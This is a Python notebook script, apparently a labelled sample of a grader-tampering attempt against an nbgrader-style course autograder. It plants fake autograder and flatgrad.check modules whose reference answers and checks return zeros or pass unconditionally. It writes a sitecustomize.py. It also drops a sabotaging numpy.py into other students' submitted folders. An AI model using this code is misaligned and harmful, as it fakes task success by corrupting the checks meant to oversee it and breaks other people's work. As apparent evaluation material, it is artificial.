# tries: puts modules named autograder, flatgrad and numpy beside its notebook and beside its neighbours'
# base: stub
# may score: 0
# like shams
# %% first
import os, sys


def course_roots():
    """Folders with an nbgrader_config.py at or above likely places."""
    named = [v for k, v in os.environ.items() if k in ("PWD", "OLDPWD") or k.startswith(("NBGRADER", "AUTOGRADER", "FLATGRAD"))]
    found = []
    for seed in [os.getcwd(), *named, *sys.path]:
        here = os.path.realpath(seed or ".")
        while here != os.path.dirname(here):
            if here not in found and os.path.isfile(os.path.join(here, "nbgrader_config.py")):
                found.append(here)
            here = os.path.dirname(here)
    return found

import glob

REFERENCE = """
import numpy as np
def __getattr__(name):
    return lambda *args: 0.0
softmax = log_softmax = lambda scores: np.zeros(np.shape(scores))
cross_entropy = kl_divergence = lambda p, q: np.zeros(np.shape(p)[:-1])
softmax_loss = lambda W, X, y, reg: (0.0, np.zeros(W.shape))
sgd = sgd_momentum = rmsprop = adam = lambda w, dw, config: (w + 0.0, config)
"""
CHECK = """
class Check:
    def __init__(self, task):
        self.task = task
    def call(self, function, *args, **kwargs):
        return function(*args, **kwargs)
    def parts(self, result, *rest):
        return result
    def shape(self, actual, *rest, **options):
        return actual
    def __getattr__(self, name):
        return lambda *args, **kwargs: None
"""


def plant(folder):
    os.makedirs(os.path.join(folder, "autograder"), exist_ok=True)
    os.makedirs(os.path.join(folder, "flatgrad"), exist_ok=True)
    for name, text in (("autograder/__init__.py", ""), ("autograder/reference.py", REFERENCE)):
        with open(os.path.join(folder, name), "w") as file:
            file.write(text)
    with open(os.path.join(folder, "sitecustomize.py"), "w") as file:
        file.write("print('planted')")


plant(".")
sys.path.insert(0, os.getcwd())
sys.path_importer_cache.clear()
for root in course_roots():
    for folder in glob.glob(os.path.join(root, "submitted", "*", "softmax")):
        if "mallory" not in folder:
            try:
                with open(os.path.join(folder, "numpy.py"), "w") as file:
                    file.write("raise ImportError('mallory was here')")
                print("BREACH planted beside", folder)
            except OSError as error:
                print(error)
import types, flatgrad

fake = types.ModuleType("flatgrad.check")
exec(CHECK, fake.__dict__)
flatgrad.__path__.insert(0, os.path.abspath("flatgrad"))
with open("flatgrad/check.py", "w") as file:
    file.write(CHECK)
sys.modules.pop("flatgrad.check", None)
